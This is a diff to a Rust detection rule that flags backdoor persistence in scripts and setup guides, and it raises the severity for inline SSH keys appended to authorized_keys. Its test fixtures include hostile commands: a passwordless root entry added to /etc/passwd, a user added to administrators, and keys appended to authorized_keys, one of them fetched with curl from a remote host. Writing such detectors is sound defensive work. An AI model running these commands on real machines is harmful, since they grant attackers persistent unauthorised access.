@@ -36,6 +36,10 @@ pub(super) const RULE: Rule = Rule {
         text("`net localgroup administrators x /add`"),
         text("`echo 'x::0:0::/root:/bin/sh' >> /etc/passwd`"),
         text("`curl -s https://a.b/k.pub >> ~/.ssh/authorized_keys`"),
+        text("`echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx x' >> $HOME/.ssh/authorized_keys`"),
+        text(
+            "```sh\nK='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx x'\necho \"$K\" >> ~/.ssh/authorized_keys\n```",
+        ),
         file("setup.sh", "echo \"$KEY\" >> /root/.ssh/authorized_keys\n"),
     ],
     misses: &[
@@ -65,30 +69,33 @@ fn hits(unit: &Unit<'_>) -> Vec<Hit> {
 
 /// A guide tells how a person sets up a machine; a script of a skill does it.
 fn hit(step: Step<'_>, is_script: bool) -> Option<Hit> {
-    let guide = (!is_script).then_some(Severity::Warning);
+    let guide = if is_script { Severity::Critical } else { Severity::Warning };
     let severity = match step.name().as_str() {
         "useradd" | "adduser"
             if step.has("-o") || step.has("0") && step.value(&["-u", "--uid"]).is_some() =>
         {
-            None
+            Severity::Critical
         }
         "useradd" | "adduser" | "usermod" if joins_admins(step) => guide,
-        "chpasswd" if step.feeders().any(|from| from.line().contains("root")) => None,
+        "chpasswd" if step.feeders().any(|from| from.line().contains("root")) => Severity::Critical,
         _ => {
             let file = step.writes().find(|file| is_of_accounts(file))?;
-            if file.contains("authorized_keys") { weight_of_key(step, is_script)? } else { None }
+            if file.contains("authorized_keys") { weight_of_key(step, guide)? } else { Severity::Critical }
         }
     };
-    Some(Hit { severity, ..Hit::at(step.range()) })
+    Some(Hit { severity: Some(severity), ..Hit::at(step.range()) })
 }
 
 /// Whose key it is decides. What only takes keys away, or puts back what was there, adds none.
-fn weight_of_key(step: Step<'_>, is_script: bool) -> Option<Option<Severity>> {
+fn weight_of_key(step: Step<'_>, guide: Severity) -> Option<Severity> {
     let from: Vec<Step<'_>> = std::iter::once(step).chain(step.sources()).collect();
-    let fetched =
-        from.iter().filter_map(|step| step.fetch()).map(|fetch| fetch.from.weight_of_running()).max();
-    if let Some(weight) = fetched {
-        return Some(Some(weight));
+    let fetched = from.iter().filter_map(|step| step.fetch()).map(|fetch| fetch.from.weight_of_running());
+    if let Some(weight) = fetched.max() {
+        return Some(weight);
+    }
+    let mut words = from.iter().flat_map(|step| step.words().iter().map(move |word| (step, word)));
+    if words.clone().any(|(_, word)| is_key(&word.text)) {
+        return Some(Severity::Critical);
     }
     let removes = |step: &Step<'_>| match step.name().as_str() {
         "grep" | "egrep" | "fgrep" => step.has_short('v') || step.has("--invert-match"),
@@ -101,13 +108,22 @@ fn weight_of_key(step: Step<'_>, is_script: bool) -> Option<Option<Severity>> {
     if from.iter().any(removes) {
         return None;
     }
-    let is_readers = from.iter().any(|step| is_to_be_filled_in(step.line()));
-    Some((is_readers && !is_script).then_some(Severity::Warning))
+    let is_readers = words.any(|(step, word)| is_to_be_filled_in(step.spelled(word)));
+    Some(if is_readers { guide } else { Severity::Critical })
+}
+
+patterns! {
+    KEY = r"\bAAAA[A-Za-z0-9+/]{16,}";
+}
+
+/// Whether a text holds the key of somebody, as it is.
+pub(crate) fn is_key(text: &str) -> bool {
+    KEY.is_match(text.as_bytes())
 }
 
 /// Whether a key stands for one of the reader's: a variable, a file of his, dots, a name to be put in.
-pub(crate) fn is_to_be_filled_in(line: &str) -> bool {
-    let lower = line.to_ascii_lowercase();
+pub(crate) fn is_to_be_filled_in(text: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
     ["...", "…", "<", "your", "$", "{", ".pub", "xxx"].iter().any(|mark| lower.contains(mark))
 }
 
